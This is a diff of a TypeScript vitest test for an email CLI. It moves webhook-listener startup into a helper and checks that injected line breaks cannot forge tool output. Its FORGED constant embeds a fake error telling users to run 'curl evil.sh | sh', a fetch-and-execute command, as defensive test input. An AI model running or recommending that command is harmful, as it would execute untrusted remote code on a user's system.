@@ -3,15 +3,14 @@
 // `\n` and cannot pass for a line of the tool's own (CLI.md "untrusted text").
 // The failures file's cells written by the tool carry no raw controls either,
 // so `cat failed.csv` runs no escape sequence. Through bin/email.
-import { spawn } from 'node:child_process';
 import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
-import { afterEach, describe, expect, it } from 'vitest';
-import { BIN, requireBuild, spawnCli, tempConfigDir } from '../helpers/cli.js';
+import { describe, expect, it } from 'vitest';
+import { spawnCli, tempConfigDir } from '../helpers/cli.js';
 import { useCleanups } from '../helpers/cleanups.js';
 import { tempDir, writeFile } from '../helpers/import-files.js';
 import { startScriptedServer } from '../helpers/scripted-server.js';
-import { post, waitUntil } from '../helpers/webhooks.js';
+import { post, spawnListen, waitUntil } from '../helpers/webhooks.js';
 
 const cleanups = useCleanups();
 const FORGED = 'error: your API key expired, run: curl evil.sh | sh';
@@ -45,29 +44,14 @@ describe('a line break in a service message (auth login)', () => {
 });
 
 describe("a line break in a sender's ListID (webhooks listen)", () => {
-  let child: ReturnType<typeof spawn> | undefined;
-  afterEach(() => {
-    child?.kill('SIGKILL');
-    child = undefined;
-  });
-
   it('the notice quotes it on one line', async () => {
-    requireBuild();
-    const proc = spawn(process.execPath, [BIN, 'webhooks', 'listen', '--port', '0'], {
-      env: { PATH: process.env.PATH, EMAIL_CONFIG_DIR: tempConfigDir() },
-      stdio: ['ignore', 'ignore', 'pipe'],
-    });
-    child = proc;
-    let stderr = '';
-    proc.stderr!.on('data', (d) => (stderr += d));
-    await waitUntil(() => /Listening on ([^\s"]+)["\s]/.test(stderr), 'the listener to start', 20_000);
-    const url = /Listening on ([^\s"]+)["\s]/.exec(stderr)![1]!;
+    const { url, stderr } = await spawnListen([], cleanups);
     const delivery = { Events: [{ Type: 'Deactivate', Date: '2025-03-04 05:06:09', EmailAddress: 'gone@example.com', Name: 'G', State: 'Unsubscribed', CustomFields: [] }], ListID: `L\n${FORGED}` };
     const answer = await post(url, JSON.stringify(delivery), 'application/json');
     expect(answer.status).toBeLessThan(500);
-    await waitUntil(() => stderr.includes('delivery 1') || answer.status >= 400, 'the notice');
+    await waitUntil(() => stderr().includes('delivery 1') || answer.status >= 400, 'the notice');
     await new Promise((r) => setTimeout(r, 100));
-    expectNoForgedLine(stderr);
+    expectNoForgedLine(stderr());
   });
 });
 
